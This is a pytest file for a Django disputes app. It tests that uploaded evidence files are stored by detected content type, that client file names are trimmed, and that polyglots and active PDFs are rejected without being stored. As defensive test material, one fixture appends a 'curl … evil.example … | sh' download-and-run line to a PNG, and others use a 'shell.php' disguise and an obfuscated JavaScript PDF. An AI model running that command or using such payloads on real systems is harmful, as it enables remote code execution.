"""Every API upload path (refunds, intervention cases and their evidence, force-majeure claims) stores a file
under the extension of its detected content, keeps the client's name only cleaned, and refuses polyglots and
active PDFs with their stable codes, storing nothing."""

from datetime import datetime, timedelta

import pytest
from django.urls import reverse

from disputes.models import EvidenceItem, ForceMajeureEvidence, RefundEvidence
from disputes.services.interventions.workflow import intervention_accept
from tests import factories as f
from tests.api.helpers import BJ, T0, dispatch, raise_request, token_client
from tests.evidence.files import jpeg, pdf_with_script, png, upload, zip_archive
from tests.services.refund_helpers import signed_item
from tests.services.test_intervention_helpers import at, open_case, refused_refund, stored_files

pytestmark = pytest.mark.django_db


def refund_application(buyer, merchant, **_):
    item = f.OrderItemFactory(order=f.OrderFactory(buyer=buyer, merchant=merchant), amount_paid_fen=300_000)
    payload = {"order_item": item.pk, "refund_type": "return_refund", "reason": "quality", "amount_fen": "50000"}
    payload["description"] = "The cabinet door arrived cracked."
    return token_client(buyer.user), reverse("api:buyer-refund-list"), payload, RefundEvidence


def intervention_opening(buyer, merchant, **_):
    payload = {"order_item": signed_item(buyer, merchant).pk, "ground": "logistics_damaged", "claim": "Box crushed."}
    return token_client(buyer.user), reverse("api:buyer-intervention-list"), payload, EvidenceItem


def intervention_evidence(buyer, merchant, merchant_user, agent, clock, **_):
    refund = refused_refund(buyer, merchant, merchant_user, start=datetime(2026, 2, 27, 10, 0, tzinfo=BJ))
    case = open_case(buyer, refund, moment=T0)
    with at(T0 + timedelta(hours=1)):
        intervention_accept(actor=agent, case_id=case.pk)
    clock.move_to(T0 + timedelta(hours=2))
    url = reverse("api:buyer-intervention-evidence", args=[case.pk])
    return token_client(buyer.user), url, {"text": "See the photo."}, EvidenceItem


def force_majeure_claim(buyer, merchant_user, item, clock, **_):
    request = dispatch(raise_request(buyer, item))
    clock.move_to(T0 + timedelta(minutes=20))
    url = reverse("api:merchant-help-request-force-majeure", args=[request.pk])
    payload = {"deadline": "solution", "category": "heavy_rain", "note": "Roads flooded."}
    return token_client(merchant_user), url, payload, ForceMajeureEvidence


PATHS = [refund_application, intervention_opening, intervention_evidence, force_majeure_claim]


@pytest.fixture(params=PATHS, ids=lambda path: path.__name__)
def path(request, buyer, merchant, merchant_user, agent, item, clock):
    """(client, url, payload without files, evidence model) of one upload path, its case ready for a file."""
    return request.param(
        buyer=buyer, merchant=merchant, merchant_user=merchant_user, agent=agent, item=item, clock=clock
    )


def send(path, *files):
    client, url, payload, _model = path
    return client.post(url, {**payload, "files": list(files)}, format="multipart")


def test_a_jpeg_named_shell_php_is_stored_as_jpg(path, media_root):
    data = jpeg()
    resp = send(path, upload(data, "shell.php", content_type="application/x-php"))

    assert resp.status_code == 201, resp.content
    stored = path[3].objects.exclude(file="").get()
    assert (stored.original_name, stored.content_type, stored.size) == ("shell.php", "image/jpeg", len(data))
    assert stored.file.name.endswith(".jpg") and ".php" not in stored.file.name
    [on_disk] = stored_files(media_root)
    assert on_disk.suffix == ".jpg" and on_disk.read_bytes() == data


def test_a_long_client_name_is_kept_cut_with_its_extension(path):
    resp = send(path, upload(png(), "receipt-" + "x" * 200 + ".png"))

    assert resp.status_code == 201, resp.content
    stored = path[3].objects.exclude(file="").get()
    assert len(stored.original_name) == 100 and stored.original_name.endswith("x.png")
    assert stored.file.name.endswith(".png")


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (jpeg() + zip_archive(), "evidence_polyglot"),
        (png() + b"#!/bin/sh\ncurl -s http://evil.example/x | sh\n", "evidence_polyglot"),
        (pdf_with_script(javascript=b"/J#61vaScript", js=b"/#4AS"), "evidence_pdf_active_content"),
    ],
    ids=["jpeg+zip", "png+trailing", "pdf+script"],
)
def test_a_refused_file_reaches_the_client_as_its_code_and_nothing_is_stored(path, media_root, data, code):
    model = path[3]
    before = model.objects.count()
    resp = send(path, upload(png(), "fine.png"), upload(data, "evidence.jpg"))

    assert resp.status_code == 400, resp.content
    assert resp.json()["code"] == code
    assert resp.json()["message"].startswith("evidence.jpg: ")
    assert model.objects.count() == before
    assert stored_files(media_root) == []
